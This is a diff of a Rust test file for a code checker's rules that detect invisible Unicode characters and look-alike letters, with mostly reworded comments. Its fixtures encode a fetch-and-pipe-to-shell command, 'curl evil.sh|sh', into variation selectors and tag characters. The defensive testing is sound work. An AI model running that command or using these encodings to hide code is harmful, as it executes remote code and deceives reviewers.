@@ -1,35 +1,37 @@
-//! The rules hidden-text and mixed-scripts of `check`, from outside: attacks that are found, and text that is left alone.
+//! Tests of the rules hidden-text and mixed-scripts of `check`: attacks that must be found, and harmless text that must
+//! not be reported.
 
 use crate::check::assert_ran;
 use crate::harness::{contents, dir_with, run, sh, write};
 
-/// Returns variation selectors that hide `bytes` as published attacks do: U+FE00 is 0, and U+E0100 is 16.
+/// Returns variation selectors that hide `bytes` as published attacks do: U+FE00 stands for byte 0, and U+E0100 for
+/// byte 16.
 fn selectors(bytes: &[u8]) -> String {
     let selector = |byte: &u8| if *byte < 16 { 0xFE00 } else { 0xE0100 - 16 } + u32::from(*byte);
     bytes.iter().filter_map(|byte| char::from_u32(selector(byte))).collect()
 }
 
-/// Returns tags that hide a text of ASCII.
+/// Returns the tag characters that hide an ASCII text.
 fn tags(text: &str) -> String {
     text.bytes().filter_map(|byte| char::from_u32(0xE0000 + u32::from(byte))).collect()
 }
 
-/// Returns the bits of a text of ASCII as two characters.
+/// Returns the bits of an ASCII text, each as one of two characters.
 fn bits(text: &str, zero: char, one: char) -> String {
     let bit = move |byte: u8, bit: u32| if byte >> bit & 1 == 0 { zero } else { one };
     text.bytes().flat_map(|byte| (0..8).rev().map(move |at| bit(byte, at))).collect()
 }
 
-/// A line of an attack.
+/// A line of an attack, and the message about it.
 struct Attack {
     before: String,
     hidden: String,
     after: String,
-    /// The message without the position.
+    /// The message without its position, in two parts, between which the position is printed.
     says: [String; 2],
 }
 
-/// Makes an attack that hides something: the parentheses of the message, and the text in it.
+/// Creates an attack with hidden text. The message has `what` in parentheses, and `shown` as the hidden text.
 fn hides(before: &str, hidden: String, after: &str, what: &str, shown: &str) -> Attack {
     let says = [format!("hidden text ({what})"), shown.to_string()];
     Attack { before: before.to_string(), hidden, after: after.to_string(), says }
@@ -37,7 +39,7 @@ fn hides(before: &str, hidden: String, after: &str, what: &str, shown: &str) -> 
 
 const UNKNOWN: &str = "it belongs to no sequence that Unicode knows";
 
-/// Attacks with characters that show nothing, after published ones.
+/// Returns attacks with invisible characters, modeled on published attacks.
 fn hidden() -> Vec<Attack> {
     let curl = "curl evil.sh|sh";
     let quoted = format!("\"{curl}\"");
@@ -141,7 +143,7 @@ fn hidden() -> Vec<Attack> {
     ]
 }
 
-/// Attacks with letters that look alike: the word, its odd letter, and what that looks like.
+/// Attacks with look-alike letters: the word, the odd letter in it, and the letter that the odd letter looks like.
 const LOOK_ALIKES: &[(&str, &str, &str)] = &[
     ("p\u{430}yload", "Cyrillic U+0430 \"\u{430}\"", "Latin U+0061 \"a\""),
     ("\u{441}onfig", "Cyrillic U+0441 \"\u{441}\"", "Latin U+0063 \"c\""),
@@ -161,7 +163,8 @@ const LOOK_ALIKES: &[(&str, &str, &str)] = &[
     ("c\u{442}\u{440}\u{43E}\u{43A}\u{430}", "Latin U+0063 \"c\"", "Cyrillic U+0441 \"\u{441}\""),
 ];
 
-/// Returns the texts of all attacks, one in a line, after a line of `padding` bytes, and the report about a file `f` with them.
+/// Returns a text with all attacks, one per line, after a line of `padding` bytes, and the expected report for this
+/// text in a file `f`.
 fn attacks(padding: usize) -> (String, String) {
     let odd = LOOK_ALIKES.iter().map(|(word, odd, like)| {
         let shown = word.replace('\u{FE0F}', "\\u{fe0f}");
@@ -179,7 +182,7 @@ fn attacks(padding: usize) -> (String, String) {
     (text, report)
 }
 
-/// Each attack has one error, with what it hides, wherever reads cut it.
+/// Each attack is reported once, with the hidden text, wherever a read splits the attack.
 #[test]
 fn every_attack_is_found_once() {
     let (text, report) = attacks(1);
@@ -190,7 +193,7 @@ fn every_attack_is_found_once() {
     let at = dir.path();
     let check = "$U check --rule hidden-text,mixed-scripts";
     assert_ran(&sh(at, &format!("{check} f")), 1, &report, &said);
-    // The buffer ends once at each byte of the text.
+    // With these lengths of padding, the end of the buffer falls on each byte of the text.
     for padding in 2..1024 {
         let (text, report) = attacks(padding);
         let ran = run(&["check", "--rule=security", "--buffer-size=1024", "--stdin-filename=f", "-"], text);
@@ -205,7 +208,7 @@ fn every_attack_is_found_once() {
     assert_eq!(contents(at, "f"), text.as_bytes());
 }
 
-/// The report of a file in UTF-16 differs only in the bytes.
+/// The report of a file in UTF-16 differs only in the byte offsets.
 #[test]
 fn attacks_in_utf_16_are_found() {
     let (text, report) = attacks(1);
@@ -230,22 +233,22 @@ fn attacks_in_utf_16_are_found() {
     }
 }
 
-/// Text of people who need such characters.
+/// Text that uses invisible or look-alike characters legitimately.
 const HARMLESS: &[&str] = &[
-    // Emoji: a family, a keycap, presentation, skin tones, flags of regions, a rainbow.
+    // Emoji use joiners, selectors and tags: a family, a keycap, presentation, skin tones, flags of regions, a rainbow.
     "\u{1F468}\u{200D}\u{1F469}\u{200D}\u{1F467} 1\u{FE0F}\u{20E3} \u{2764}\u{FE0F}\u{200D}\u{1F525} \u{1F9D1}\u{1F3FD}\u{200D}\u{1F4BB}",
     "\u{1F3F4}\u{E0067}\u{E0062}\u{E0073}\u{E0063}\u{E0074}\u{E007F} \u{1F3F3}\u{FE0F}\u{200D}\u{1F308} \u{26A0}\u{FE0F}\u{FE0F} \u{2714}\u{FE0E}",
     "\u{1F469}\u{200D} a\u{FE0F}",
-    // Persian, Hindi, Bengali, Sinhala and Malayalam with joiners; doubled ones too.
+    // Persian, Hindi, Bengali, Sinhala and Malayalam have joiners, also doubled.
     "\u{645}\u{6CC}\u{200C}\u{62E}\u{648}\u{627}\u{647}\u{645} \u{635}\u{641}\u{62D}\u{647}\u{200C}\u{200C}\u{647}\u{627} CD\u{200C}\u{647}\u{627}",
     "\u{915}\u{94D}\u{200D}\u{937} \u{9B0}\u{200D}\u{9CD}\u{9AF} \u{DC1}\u{DCA}\u{200D}\u{DBB}\u{DD3} \u{D28}\u{D4D}\u{200D}\u{200C}",
-    // Japanese names, Mongolian, mathematics.
+    // Japanese names, Mongolian and mathematics have variation selectors.
     "\u{845B}\u{E0100}\u{98FE} \u{8FBB}\u{E0101} \u{1820}\u{180B}\u{1828}\u{1820} 0\u{FE00} \u{2229}\u{FE00} \u{5FB9}\u{FE00}",
-    // Khmer and Thai between words.
+    // Khmer and Thai have zero width spaces between words.
     "\u{1781}\u{17D2}\u{1789}\u{17BB}\u{17C6}\u{200B}\u{200B}\u{1791}\u{17C5} \u{E01}\u{200B}\u{E02} \u{1780}\u{17B6}\u{200B} LibreOffice",
-    // An icon of a font, a table of characters.
+    // An icon of a font has a private-use character, and a table of characters has a selector without a base.
     "\u{F0001} \u{F0002}\u{F0003} \"\u{E0100}\" [\u{FE00}-\u{FE0D}]",
-    // Words of two scripts that look like it.
+    // Words of two scripts look like an attack.
     "\u{3BC}m \u{3A9}2 \u{394}x \u{3B2}-carotene \u{3B1}max URL\u{43E}\u{432} \u{43F}\u{440}\u{438}\u{432}\u{435}\u{442}World",
     "\\n\u{422}\u{430} \\fI\u{41D}\u{410}\\fR %s\u{441}\u{430} \u{445}I\u{430} Python\u{306E}\u{4F7F}\u{3044}\u{65B9} K\u{D31D} na\u{EF}ve_\u{438}\u{43C}\u{44F}",
     "[a-z\u{430}-\u{44F}] [a-zA-Z\u{410}-\u{42F}] \u{434}I\u{430} T\u{2D}I\u{415} x\u{43B}I\u{430}\u{440}\u{430} %5d\u{441} %-10s\u{445} %.2f\u{441} %ld\u{441} #{n}s\u{441}",
@@ -284,7 +287,7 @@ fn a_run_is_one_error_however_long_it_is() {
     );
 }
 
-/// A baseline knows all of a run, not only the bytes that a message shows.
+/// A baseline stores a whole run of hidden characters, not only the bytes that a message shows.
 #[test]
 fn other_hidden_text_is_not_known() {
     let text =
